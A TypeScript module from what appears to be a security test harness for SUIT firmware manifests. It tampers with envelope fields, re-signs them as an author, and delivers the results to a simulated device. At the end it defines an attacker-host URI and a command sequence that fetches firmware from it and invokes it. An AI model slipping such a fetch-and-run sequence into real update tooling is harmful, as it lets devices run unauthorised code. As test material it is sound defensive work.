/**
 * Changes one place of an envelope and, where the author makes the change, redoes the digests and authentication
 * blocks that it forces (draft-ietf-suit-manifest-37 §8.3, §8.4.12).
 *
 * @module
 */
import { equalBytes } from '../cbor/hex.ts';
import {
  array,
  type CborMap,
  type Entry,
  type Item,
  int,
  isInt,
  type List,
  map,
  tstr,
  valueAt,
  wrapped,
} from '../cbor/item.ts';
import { write } from '../cbor/write.ts';
import { makeBlock, type Signer } from '../cose/blocks.ts';
import type { Delivery, Level } from '../device/delivery.ts';
import { reaches } from '../device/delivery.ts';
import { before, type Scenario } from '../scenarios/scenario.ts';
import { wrappedDigest } from '../suit/build.ts';
import { assemble } from '../suit/parts.ts';
import { commandCode, envelopeKey, parameterKey } from '../suit/registry.ts';
import type { Attacked } from './attack.ts';
import { type DeliverOptions, defaultEvent, deliverEnvelope } from './deliver.ts';
import { envelopeShape, type Part, type Reading, type Shape } from './encoding-shape.ts';
import { open, type Place, placesOf, replaceAt, stringBytes } from './encoding-tree.ts';

/** A scenario's release, opened. */
export interface Opened {
  readonly tree: Item;
  readonly shape: Shape;
  readonly places: readonly Place[];
  /** The highest level that the attacked delivery can reach. */
  readonly level: Level;
}

const known = new WeakMap<Scenario, Opened>();

export function opened(scenario: Scenario): Opened {
  const cached = known.get(scenario);
  if (cached !== undefined) return cached;
  const event = defaultEvent(scenario);
  const uris = new Set(scenario.images.flatMap((image) => (image.uri === undefined ? [] : [image.uri])));
  const shape = envelopeShape({
    event,
    blocks: scenario.release.blocks.length,
    fetched: (key) => key.kind === 'tstr' && uris.has(new TextDecoder().decode(key.bytes)),
  });
  const tree = open(assemble(scenario.release), shape);
  const level = before(scenario, event)?.delivery.level ?? 'authenticated';
  const made = { tree, shape, places: placesOf(tree, shape), level };
  known.set(scenario, made);
  return made;
}

/** The places that a run of the delivery must come to, and that pass the filter. */
export function surePlaces(scenario: Scenario, filter: (place: Place) => boolean): readonly Place[] {
  const { places, level } = opened(scenario);
  return places.filter((place) => isSure(place.reads) && reaches(level, place.reads) && filter(place));
}

function isSure(reads: Reading): reads is Level {
  return reads !== 'maybe' && reads !== 'never';
}

/** The level of a place that `surePlaces` gave; the highest for one that is read only perhaps. */
export function levelOf(place: Place): Level {
  return isSure(place.reads) ? place.reads : 'installed';
}

/** The list's element at a number taken round; undefined where it is empty. */
export function pick<T>(list: readonly T[], number: number): T | undefined {
  return list[number % list.length];
}

/** What the author changes: all that the digest or a severed element's digest covers. */
export function isAuthored(place: Place): boolean {
  return place.part === 'digest' || place.part === 'manifest' || place.part === 'member';
}

/** Changes a place and delivers the result as it is. */
export function changeAsOutsider(
  scenario: Scenario,
  place: Place,
  change: (item: Item) => Item,
  options: DeliverOptions = {},
): Attacked | undefined {
  return deliverTree(scenario, replaceAt(opened(scenario).tree, place.path, change), options);
}

/** Changes a place that the author answers for, and redoes what covers it. */
export function changeAsAuthor(
  scenario: Scenario,
  place: Place,
  change: (item: Item) => Item,
  options: DeliverOptions = {},
): Attacked | undefined {
  if (scenario.signers.length === 0) return undefined;
  const tree = replaceAt(opened(scenario).tree, place.path, change);
  return deliverTree(scenario, seal(tree, place.part, scenario.signers), options);
}

export function deliverTree(
  scenario: Scenario,
  tree: Item,
  options: DeliverOptions = {},
): Attacked | undefined {
  return deliverBytes(scenario, write(tree), options);
}

/**
 * Delivers other bytes instead of the release. An acceptance is expected to leave what the control leaves, with
 * these bytes stored: nothing is read out of them, since no two readers need agree on what they say.
 */
export function deliverBytes(
  scenario: Scenario,
  envelope: Uint8Array,
  options: DeliverOptions = {},
): Attacked | undefined {
  const found = before(scenario, options.event ?? defaultEvent(scenario));
  if (found === undefined) return undefined;
  const { delivery, after } = found.delivery;
  if (equalBytes(envelope, released(scenario, delivery))) return undefined;
  const stored = delivery.event === 'update' ? { ...after, installed: envelope } : after;
  return deliverEnvelope(scenario, envelope, { after: stored, ...options });
}

function released(scenario: Scenario, delivery: Delivery): Uint8Array {
  return delivery.envelope ?? write(assemble(scenario.release));
}

/** Digests and blocks anew over a tree in which the given part was changed. */
export function seal(tree: Item, changed: Part, signers: readonly Signer[]): Item {
  return onEnvelope(tree, (envelope) => {
    const manifest = valueAt(envelope, envelopeKey.manifest);
    const wrapper = valueAt(envelope, envelopeKey.authenticationWrapper);
    if (manifest === undefined || wrapper === undefined) return envelope;
    const bound = changed === 'member' ? rebindMembers(envelope, manifest) : manifest;
    const digest = changed === 'digest' ? undefined : wrapped(wrappedDigest(bound, algorithmOf(wrapper)));
    return {
      ...envelope,
      entries: envelope.entries.map(([key, value]): Entry => {
        if (isInt(key, envelopeKey.manifest)) return [key, bound];
        return [key, isInt(key, envelopeKey.authenticationWrapper) ? resign(value, digest, signers) : value];
      }),
    };
  });
}

function onEnvelope(item: Item, change: (envelope: CborMap) => Item): Item {
  if (item.kind === 'tag') return { ...item, item: onEnvelope(item.item, change) };
  return item.kind === 'map' ? change(item) : item;
}

/** The manifest with the digests of the severed elements as they now are. */
function rebindMembers(envelope: CborMap, manifest: Item): Item {
  return mapContent(manifest, (content) => {
    if (content.kind !== 'map') return content;
    const entries = content.entries.map(([key, value]): Entry => {
      const member = envelope.entries.find(([k]) => key.kind === 'uint' && isInt(k, key.value))?.[1];
      if (value.kind !== 'array' || member === undefined) return [key, value];
      return [key, wrappedDigest(member, algorithmIn(value))];
    });
    return { ...content, entries };
  });
}

function resign(wrapper: Item, digest: Item | undefined, signers: readonly Signer[]): Item {
  return mapContent(wrapper, (authentication) => {
    if (authentication.kind !== 'array') return authentication;
    const first = digest ?? (authentication.items[0] as Item);
    const payload = stringBytes(first) ?? new Uint8Array(0);
    const blocks = signers.map((signer) => wrapped(makeBlock(signer, payload)));
    return { ...authentication, items: [first, ...blocks] };
  });
}

function mapContent(item: Item, change: (content: Item) => Item): Item {
  return item.kind === 'wrapped'
    ? { ...item, items: item.items.map((inner, i) => (i === 0 ? change(inner) : inner)) }
    : item;
}

function algorithmOf(wrapper: Item): number | undefined {
  const authentication = wrapper.kind === 'wrapped' ? wrapper.items[0] : undefined;
  const first = authentication?.kind === 'array' ? authentication.items[0] : undefined;
  const digest = first?.kind === 'wrapped' ? first.items[0] : undefined;
  return digest?.kind === 'array' ? algorithmIn(digest) : undefined;
}

function algorithmIn(digest: List): number | undefined {
  const first = digest.items[0];
  return first?.kind === 'nint' || first?.kind === 'uint' ? Number(first.value) : undefined;
}

/** A fetch that no authentic manifest asks for. */
export const evilUri = 'http://attacker.example/firmware.bin';

/** A command sequence that fetches from `evilUri` and invokes. */
export function evilSequence(): List {
  const { setComponentIndex, overrideParameters, fetch, invoke } = commandCode;
  const parameters = map([int(parameterKey.uri), tstr(evilUri)]);
  const commands = [setComponentIndex, 0, overrideParameters].map(int);
  return array(...commands, parameters, ...[fetch, 0, invoke, 0].map(int));
}
